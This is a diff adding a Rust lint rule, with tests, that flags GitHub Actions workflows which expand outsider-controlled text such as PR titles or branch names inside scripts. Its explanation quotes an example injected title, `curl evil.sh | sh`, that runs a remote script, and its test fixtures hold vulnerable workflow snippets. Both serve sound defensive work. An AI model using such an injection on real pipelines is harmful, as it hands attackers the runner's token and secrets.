@@ -1,0 +1,114 @@
+#[cfg(test)]
+use crate::model::Design;
+use crate::rules::{Area, Context, Rule, RuleDoc, Severity, Violation};
+
+use super::file::{all_steps, at, attacker_controlled, code, document};
+
+pub struct TemplateInjection;
+
+impl Rule for TemplateInjection {
+    const DOC: RuleDoc = RuleDoc {
+        id: "WORKFLOW-001",
+        name: "template-injection",
+        severity: Severity::High,
+        area: Area::Pipeline,
+        title: "Scripts never expand text an outsider wrote",
+        what: "No `run:` script and no `actions/github-script` script expands an expression an \
+               outsider controls: the title or body of an issue, pull request, comment or \
+               review, a branch name (`github.head_ref`, `…head.ref`), a commit message or \
+               author, a wiki page name.",
+        why: "GitHub pastes `${{ … }}` into the script before the shell or Node reads it: a pull \
+              request titled `a\"; curl evil.sh | sh; echo \"` runs that command on the runner, \
+              with the job's token and secrets. Passing the value through an environment \
+              variable makes it data, never code.",
+        incorrect: "- run: echo \"${{ github.event.pull_request.title }}\"",
+        correct:
+            "- run: echo \"$TITLE\"\n  env:\n    TITLE: ${{ github.event.pull_request.title }}",
+        fix: "Manual: move each expression into the step's `env:` and use the variable \
+              (`\"$TITLE\"`) in the script.",
+        source: "Not in the documents: GitHub Security Lab, \"Keeping your GitHub Actions and \
+                 workflows secure: untrusted input\"; GitHub's security hardening guide \
+                 (script injections)",
+        equivalents: &[
+            "zizmor template-injection",
+            "CodeQL actions/code-injection/critical",
+        ],
+    };
+
+    fn check(&self, context: &Context) -> Vec<Violation> {
+        let report = |field: String, expression: &str| {
+            Violation::new(
+                field,
+                format!("`{expression}` is text an outsider writes, expanded into a script: it can run any command. Pass it through `env:`."),
+            )
+        };
+        let Some(document) = document(context) else {
+            let jobs = context.design.pipeline.jobs.iter().enumerate();
+            return jobs
+                .flat_map(|(job, found)| {
+                    found
+                        .commands
+                        .iter()
+                        .enumerate()
+                        .flat_map(move |(index, command)| {
+                            attacker_controlled(command)
+                                .into_iter()
+                                .map(move |expression| {
+                                    report(
+                                        format!("pipeline.jobs[{job}].commands[{index}]"),
+                                        &expression,
+                                    )
+                                })
+                        })
+                })
+                .collect();
+        };
+        let mut out = Vec::new();
+        for (path, step) in all_steps(&document) {
+            if let Some((path, script)) = code(&path, step) {
+                for expression in attacker_controlled(&script) {
+                    let violation = report(String::new(), &expression);
+                    out.push(at(path.clone(), violation.message));
+                }
+            }
+        }
+        out
+    }
+
+    #[cfg(test)]
+    fn failing_examples() -> Vec<Design> {
+        let mut design = Design::default();
+        design.pipeline.jobs[0].commands = vec!["echo ${{ github.head_ref }}".into()];
+        vec![
+            design,
+            super::file::example("on: issues\njobs:\n  a:\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: console.log('${{ github.event.issue.body }}')\n"),
+        ]
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::rules::support::{fields, preset};
+
+    #[test]
+    fn passes_on_values_passed_through_env() {
+        assert!(fields(&TemplateInjection, &preset("fastapi-react")).is_empty());
+        assert!(super::super::file::flags(&TemplateInjection, "on: push\njobs:\n  a:\n    steps:\n      - run: echo \"$T\" ${{ github.sha }}\n        env: {T: '${{ github.event.issue.title }}'}\n").is_empty());
+    }
+
+    #[test]
+    fn fails_on_an_outsiders_text_in_a_script() {
+        let [design, script] = &TemplateInjection::failing_examples()[..] else {
+            panic!()
+        };
+        assert_eq!(
+            fields(&TemplateInjection, design),
+            ["pipeline.jobs[0].commands[0]"]
+        );
+        assert_eq!(
+            fields(&TemplateInjection, script),
+            ["workflow.jobs.a.steps[0].with.script"]
+        );
+    }
+}
